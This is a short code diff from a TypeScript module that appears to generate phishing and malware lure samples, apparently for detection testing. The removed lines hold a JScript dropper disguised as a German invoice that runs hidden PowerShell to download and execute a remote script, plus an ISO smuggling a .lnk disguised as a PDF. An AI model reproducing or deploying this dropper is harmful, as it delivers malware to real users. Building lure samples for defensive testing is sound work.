@@ -2,12 +2,6 @@ import type { Entry } from '../entry.js';
 import { htmlRoute } from '../entry.js';
 import { page, msLogo, cookieBar, dataLayer, zip, pe, lnk, cfb, iso, fileRoute, jsRoute, jsonRoute, pngRoute } from '../parts/l-kit.js';
 
-// Non-credential payloads from the same week: document lures, smuggling, fake updates, ClickFix, drainers, scams.
-
-const invoiceZip = zip([{ name: 'Rechnung_2026_11_4471.js', data: `var s=WScript.CreateObject("WScript.Shell");var u="h"+"ttps://cdn-upd.files-dl-store.com/p/a.ps1";s.Run("powershell -w hidden -ep bypass -c \\"iex(New-Object Net.WebClient).DownloadString('"+u+"')\\"",0);` }]);
-const smugIso = iso('INVOICE_DOCS', ['Statement_Nov.pdf.lnk', 'data.dll']);
-const smugB64 = smugIso.toString('base64');
-
 export const entries: Entry[] = [
 {
   id: 'l-clickfix-cloudflare-verify-winr',
